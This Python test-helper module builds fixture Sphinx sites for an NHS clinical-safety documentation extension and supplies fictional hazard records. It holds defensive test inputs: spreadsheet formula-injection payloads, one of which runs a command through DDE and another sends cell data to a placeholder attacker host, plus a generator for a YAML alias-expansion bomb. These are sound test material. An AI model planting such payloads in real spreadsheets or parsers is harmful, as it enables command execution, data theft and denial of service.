"""What the tests share: build tiny Sphinx projects and look at what a reader would get.

Tests import from here (``from helpers import Site``), never from ``conftest.py`` or from
another test file; conftest.py holds only fixtures and plugins.
"""

from __future__ import annotations

import contextlib
import io
import os
import re
import shutil
import subprocess
import sys
import textwrap
import threading
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, NoReturn
from unittest import mock

import jinja2
import jinja2.bccache
import pytest
import sphinx.cmd.build
import sphinx.util.console
from bs4 import BeautifulSoup
from nhs_assurance.core.hazard_record import HazardRecord
from sphinx.testing.util import SphinxTestApp, _clean_up_global_state
from sphinx.util.console import disable_colour, enable_colour, strip_colors

REPO_ROOT = Path(__file__).resolve().parent.parent
DOCS_DIR = REPO_ROOT / "docs"
#: The handbook: the toolkit's pages for authors and maintainers, a Sphinx project of its own.
HANDBOOK_DIR = REPO_ROOT / "handbook"

#: The configuration of a fixture site: the extension as a sibling project would use it.
BASE_CONF = """\
extensions = ["myst_parser", "sphinx_design", "nhs_assurance"]
myst_enable_extensions = ["colon_fence"]
myst_title_to_header = True
html_theme = "furo"
nhs_assurance_original_site = "https://original.example/site/"
"""


def in_ci() -> bool:
    """CI sets NHS_REQUIRE_ALL_TESTS=1: there, a missing tool fails a test instead of skipping it."""
    return os.environ.get("NHS_REQUIRE_ALL_TESTS") == "1"


def missing(message: str) -> NoReturn:
    """Skip the running test for want of what *message* names, or fail it in CI."""
    if in_ci():
        pytest.fail(message)
    pytest.skip(message)


def require_tool(name: str, why: str) -> str:
    """The path of command *name*; skip with a reason (or fail, in CI) when it is missing."""
    path = shutil.which(name)
    if path is None:
        missing(f"{name} is not installed ({why}); .ci/run installs it")
    return path


#: The one address the tests serve on (``serving``), and the only one the browser may reach: no
#: test reaches outside the machine.
HOST = "127.0.0.1"


class QuietRequests(BaseHTTPRequestHandler):
    """A request handler that does not log every request to the test output."""

    def log_message(self, format: str, *args: object) -> None:
        pass


def bypass_proxies(monkeypatch: pytest.MonkeyPatch) -> None:
    """Let a test's client reach HOST directly, whatever proxy the machine sets: both spellings
    of ``no_proxy`` (urllib and requests prefer the lower-case one when both are set)."""
    for name in ("no_proxy", "NO_PROXY"):
        monkeypatch.setenv(name, HOST)


@contextlib.contextmanager
def serving(handler: Callable[..., BaseHTTPRequestHandler]) -> Iterator[str]:
    """An HTTP server on HOST, answering with *handler*, from a thread; its base URL (no "/"
    at the end). It stops when the block ends."""
    httpd = ThreadingHTTPServer((HOST, 0), handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://{HOST}:{httpd.server_port}"
    finally:
        httpd.shutdown()
        httpd.server_close()
        thread.join()


class CompiledTemplates(jinja2.BytecodeCache):
    """The theme's templates as Jinja compiles them, kept by the test process for its builds.

    Every build of a fixture site is a new Sphinx application with a new Jinja environment, which
    would parse and compile Furo's templates again: more than half of a small build's time. Jinja
    checks each kept template against its source's checksum, so a changed template is compiled
    anew, and the pages are the same as without it.
    """

    def __init__(self) -> None:
        self.code: dict[str, bytes] = {}

    def load_bytecode(self, bucket: jinja2.bccache.Bucket) -> None:
        if bucket.key in self.code:
            bucket.bytecode_from_string(self.code[bucket.key])

    def dump_bytecode(self, bucket: jinja2.bccache.Bucket) -> None:
        self.code[bucket.key] = bucket.bytecode_to_string()


COMPILED_TEMPLATES = CompiledTemplates()


@dataclass
class BuildResult:
    """One build of a fixture site: its warnings and its output directory."""

    app: SphinxTestApp
    #: Sphinx's status output and warnings, as plain text. Sphinx colours them and erases lines
    #: with escape codes when it believes it writes to a terminal, which CI=true or FORCE_COLOR
    #: make it believe even into a file; then it also ends each progress line with "\r" instead
    #: of "\n", so the status has its "\r" made "\n".
    status: str
    warnings: str
    outdir: Path

    def html(self, page: str = "index") -> BeautifulSoup:
        """The parsed HTML of *page* (a docname)."""
        return soup(self.outdir / f"{page}.html")

    def main(self, page: str = "index") -> BeautifulSoup:
        """The page's main content: what the reader reads, without the theme around it."""
        article = self.html(page).select_one("article[role=main]")
        assert article is not None, f"{page}.html has no <article role=main>"
        return article

    def warning_lines(self) -> list[str]:
        """The warning lines, one per warning."""
        return [line for line in self.warnings.splitlines() if "WARNING" in line or "ERROR" in line]

    def warnings_in(self, folder: str) -> list[str]:
        """The warning lines located in the source folder *folder* (one case of a site built
        once for many cases, ``build_cases``), with the path up to that folder taken off: as
        they read for a site of that case alone."""
        prefix = f"{self.app.srcdir}/{folder}/"
        return [
            line.removeprefix(prefix) for line in self.warning_lines() if line.startswith(prefix)
        ]

    def warnings_outside(self, folders: Iterable[str]) -> list[str]:
        """The warning lines located in none of *folders* (or nowhere): for a site built once
        for many cases, warnings that no case can claim."""
        prefixes = tuple(f"{self.app.srcdir}/{folder}/" for folder in folders)
        return [line for line in self.warning_lines() if not line.startswith(prefixes)]

    def read(self) -> set[str]:
        """The pages Sphinx read in this build, from its status output."""
        return set(re.findall(r"reading sources\.\.\. \[\s*\d+%\] (\S+)", self.status))

    def written(self) -> set[str]:
        """The pages Sphinx wrote in this build, from its status output."""
        return set(re.findall(r"writing output\.\.\. \[\s*\d+%\] (\S+)", self.status))


@dataclass
class Site:
    """A fixture Sphinx project in a temporary directory, built as ``sphinx-build`` would."""

    root: Path
    conf: str = BASE_CONF

    @property
    def srcdir(self) -> Path:
        return self.root / "src"

    def write(self, name: str, text: str) -> Path:
        """Write a source file (dedented), making sure its mtime moves on for incremental builds."""
        path = self.srcdir / name
        path.parent.mkdir(parents=True, exist_ok=True)
        existed = path.exists()
        old_mtime = path.stat().st_mtime if existed else 0.0
        path.write_text(textwrap.dedent(text).lstrip("\n"), encoding="utf-8")
        if existed:
            # Sphinx compares mtimes; on a fast machine two writes can share one.
            new_mtime = max(path.stat().st_mtime, old_mtime + 2)
            os.utime(path, (new_mtime, new_mtime))
        return path

    def write_pages(self, pages: dict[str, str]) -> None:
        """Write MyST pages by docname, and an index whose toctree lists them all."""
        for docname, text in pages.items():
            self.write(f"{docname}.md", text)
        if "index" not in pages:
            entries = "\n".join(sorted(pages))
            self.write("index.md", f"# Index\n\n```{{toctree}}\n{entries}\n```\n")

    def remove(self, name: str) -> None:
        """Delete a source file."""
        (self.srcdir / name).unlink()

    def build_strict(self, *options: str) -> tuple[int, str]:
        """Run ``sphinx-build -W --keep-going`` on the site (its entry point, in this process:
        ``sphinx_build_in_process``); return its exit code and stderr."""
        (self.srcdir / "conf.py").write_text(self.conf, encoding="utf-8")
        return sphinx_build_in_process(
            "-b", "html", "-W", "--keep-going", "-q", *options,
            self.srcdir, self.root / "_build" / "strict",
        )  # fmt: skip

    def build(
        self,
        buildername: str = "html",
        *,
        confoverrides: dict[str, Any] | None = None,
        parallel: int = 0,
        freshenv: bool = False,
        warningiserror: bool = False,
        builddir: Path | None = None,
    ) -> BuildResult:
        """Build the site; each call is a new ``sphinx-build`` run over the same output."""
        (self.srcdir / "conf.py").write_text(self.conf, encoding="utf-8")
        app = SphinxTestApp(
            buildername,
            srcdir=self.srcdir,
            builddir=builddir or self.root / "_build",
            freshenv=freshenv,
            confoverrides=confoverrides or {},
            parallel=parallel,
            warningiserror=warningiserror,
        )
        templates = getattr(app.builder, "templates", None)  # the HTML builders'
        if isinstance(getattr(templates, "environment", None), jinja2.Environment):
            templates.environment.bytecode_cache = COMPILED_TEMPLATES
        try:
            app.build()
        finally:
            app.cleanup()
        return BuildResult(
            app,
            strip_colors(app.status.getvalue()).replace("\r", "\n"),
            strip_colors(app.warning.getvalue()),
            Path(app.outdir),
        )


def sphinx_build(*args: str | Path, env: Mapping[str, str] | None = None) -> tuple[int, str]:
    """Run ``sphinx-build`` in a subprocess, as an author would; return its exit code and stderr.

    *env* holds environment variables to set for it, over those of the tests.
    """
    process = subprocess.run(
        [sys.executable, "-m", "sphinx", *map(str, args)],
        capture_output=True,
        text=True,
        check=False,
        env={**os.environ, **(env or {})},
    )
    return process.returncode, strip_colors(process.stderr)


def sphinx_build_in_process(
    *args: str | Path, env: Mapping[str, str] | None = None
) -> tuple[int, str]:
    """Run ``sphinx-build`` *args* as ``sphinx_build`` does, with the command's own entry point
    (its arguments, exit code and stderr), in this process: without a new Python and its imports
    (seconds of CPU each), for a test about the build rather than about the command. *env* holds
    environment variables set for the build (conf.py and Sphinx read them while it runs).

    The global state a build leaves (docutils' directives and roles, ``sys.path``, whether
    Sphinx colours its output, the environment) is put back as SphinxTestApp puts it back.
    """
    stdout, stderr = io.StringIO(), io.StringIO()
    saved_path = sys.path[:]
    colour_disabled = getattr(sphinx.util.console, "_COLOURING_DISABLED", False)
    try:
        with (
            mock.patch.dict(os.environ, env or {}),
            contextlib.redirect_stdout(stdout),
            contextlib.redirect_stderr(stderr),
        ):
            status = sphinx.cmd.build.build_main([str(arg) for arg in args])
    finally:
        sys.path[:] = saved_path
        (disable_colour if colour_disabled else enable_colour)()
        _clean_up_global_state()
    return status, strip_colors(stderr.getvalue())


def latexmk(latex_dir: Path, *options: str, env: Mapping[str, str] | None = None) -> Path:
    """Typeset the one ``.tex`` file of *latex_dir* with ``latexmk -pdf``; return the PDF.

    *options* go to latexmk after ``-pdf``; *env* holds environment variables to set for it, over
    those of the tests. A failure shows the end of LaTeX's log.
    """
    (tex,) = latex_dir.glob("*.tex")
    process = subprocess.run(
        ["latexmk", "-pdf", *options, "-interaction=nonstopmode", "-halt-on-error", tex.name],
        cwd=latex_dir,
        capture_output=True,
        text=True,
        check=False,
        env={**os.environ, **(env or {})},
    )
    log = tex.with_suffix(".log")
    tail = (log.read_text("utf-8", errors="replace") if log.exists() else process.stdout)[-3000:]
    assert process.returncode == 0, tail
    pdf = tex.with_suffix(".pdf")
    assert pdf.is_file(), tail
    return pdf


def soup(path: Path) -> BeautifulSoup:
    """The parsed HTML at *path*."""
    return BeautifulSoup(path.read_text("utf-8"), "html.parser")


def located(result: BuildResult, site: Site) -> list[str]:
    """The warning lines, with the source folder taken off their paths."""
    return [line.replace(f"{site.srcdir}/", "") for line in result.warning_lines()]


def page_with(body: str, title: str = "Test page") -> str:
    """A MyST page: a heading, then *body* (dedented)."""
    return f"# {title}\n\n{textwrap.dedent(body).strip()}\n"


def build_page(site: Site, body: str, **options: Any) -> BuildResult:
    """Write *body* as the site's one page ("page", under a heading) and build; *options* go to
    ``site.build``."""
    site.write_pages({"page": page_with(body)})
    return site.build(**options)


def case_folder(case: str) -> str:
    """The source folder of *case* (a test's case name) in a site built once for many cases."""
    return re.sub(r"[^A-Za-z0-9_-]+", "-", case).strip("-") or "case"


#: The setting of a site built once for many cases: each case declares its entries on a page of
#: its own, and that another case's page declares the same ID is no mistake of the case (the
#: warnings about duplicates are tested on sites of their own, in test_registry.py and others).
CASES_CONF = (
    "suppress_warnings = ["
    + ", ".join(f'"nhs_assurance.duplicate_{kind}"' for kind in ("standard", "hazard", "control"))
    + "]\n"
)


def case_site(root: Path, bodies: Mapping[str, str], conf: str = BASE_CONF) -> Site:
    """ONE site in which each case's body is a page of its own, ``<case folder>/page`` (under a
    heading, as ``build_page`` writes it), instead of one site per case.

    As Sphinx's own tests build a test root once per module: each case then reads its warnings
    with ``BuildResult.warnings_in(case_folder(case))`` (as a one-page site would give them, with
    its page named "page.md") and its HTML as ``main(f"{case_folder(case)}/page")``.
    """
    site = Site(root, conf + CASES_CONF)
    folders = {case_folder(case) for case in bodies}
    assert len(folders) == len(bodies), "two cases share a folder name"
    site.write_pages(
        {f"{case_folder(case)}/page": page_with(body) for case, body in bodies.items()}
    )
    return site


def build_cases(
    root: Path, bodies: Mapping[str, str], conf: str = BASE_CONF, **options: Any
) -> BuildResult:
    """Build ``case_site(root, bodies, conf)`` once; *options* go to ``Site.build``."""
    return case_site(root, bodies, conf).build(**options)


# Facts of the project's docs/ that several test files check, exactly as the original page gives
# them (tests/fixtures/clinical_safety.md, docs/clinical_safety.md); never invented.

DCB0129_URL = (
    "https://digital.nhs.uk/data-and-information/information-standards/information-standards-and-"
    "data-collections-including-extractions/publications-and-notifications/standards-and-"
    "collections/dcb0129-clinical-risk-management-its-application-in-the-manufacture-of-health-it-"
    "systems"
)
DCB0160_URL = (
    "https://digital.nhs.uk/data-and-information/information-standards/information-standards-and-"
    "data-collections-including-extractions/publications-and-notifications/standards-and-"
    "collections/dcb0160-clinical-risk-management-its-application-in-the-deployment-and-use-of-"
    "health-it-systems"
)
DCB0129_TITLE = "Clinical Risk Management: its Application in the Manufacture of Health IT Systems"
DCB0160_TITLE = (
    "Clinical Risk Management: its Application in the Deployment and Use of Health IT Systems"
)
LEGAL_SENTENCE = (
    "Compliance with DCB0129 and DCB0160 is mandatory under the Health and Social care Act 2012."
)

#: The canonical URL docs/ is built with "on Read the Docs" (a fictional one: nothing is fetched).
CANONICAL = "https://docs.example.org/en/latest/"


def require_weasyprint() -> None:
    """Skip (or fail, in CI) when WeasyPrint cannot load the Pango it prints with."""
    try:
        import weasyprint  # noqa: F401 -- only whether it loads
    except OSError as error:
        missing(f"WeasyPrint cannot load Pango ({error}); .ci/run installs it")


# Fictional hazards, for the tests of the hazard log's exports.


def hazard(key: str, **changes: object) -> HazardRecord:
    """A fictional hazard, rated Major / Low (3) initially and Major / Very low (2) after."""
    fields: dict[str, object] = {
        "key": key.upper(),
        "id": key,
        "title": f"Fictional hazard {key}",
        "docname": "safety",
        "anchor": key.lower(),
        "lineno": 10,
        "status": "open",
        "owner": "Fictional Clinical Safety Officer",
        "initial_severity": "Major",
        "initial_likelihood": "Low",
        "initial_rating": 3,
        "residual_severity": "Major",
        "residual_likelihood": "Very low",
        "residual_rating": 2,
        "standards": ("XYZ0001",),
        "description": "",
        "causes": "",
        "effect": "",
        "harm": "",
        "existing_controls": "",
        "additional_controls": "",
        "evidence": "",
    }
    fields.update(changes)
    return HazardRecord(**fields)  # type: ignore[arg-type]


#: What an attacker writes in a title or a text: each would run as a formula in a spreadsheet.
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://attacker.invalid/?d="&A1,"Click")',
]


def page_uri(docname: str) -> str:
    """A page's URL as an HTML build gives it, for the export functions."""
    return f"{docname}.html"


def sample_log() -> list[HazardRecord]:
    """A small fictional log: rated and unrated, with and without a residual assessment."""
    return [
        hazard(
            "HAZ-901",
            title="A referral is sent to a fictional service that has closed",
            description="Free text about the hazard.",
            causes="• The directory still lists the service.\n• A cached result is shown.",
            effect="The referral waits, unread.",
            harm="Delayed treatment.",
            existing_controls="The service page says it is closed.",
            additional_controls="• Design: the search lists only open services.",
            evidence="Fictional test report TR-901.",
            status="closed",
            standards=("XYZ0001", "XYZ0002"),
        ),
        hazard(
            "HAZ-902",
            docname="guides/other",
            residual_severity="",
            residual_likelihood="",
            residual_rating=0,
            owner="",
        ),
        hazard(
            "HAZ-903",
            title="",
            initial_severity="",
            initial_likelihood="",
            initial_rating=0,
            standards=(),
        ),
    ]


def alias_bomb(levels: int = 9) -> str:
    """A few hundred bytes of YAML that stand for 9**levels strings once aliases are expanded."""
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for level in range(1, levels):
        lines.append(f"a{level}: &a{level} [{', '.join([f'*a{level - 1}'] * 9)}]")
    lines.append(f"keywords: *a{levels - 1}")
    return "\n".join(lines)
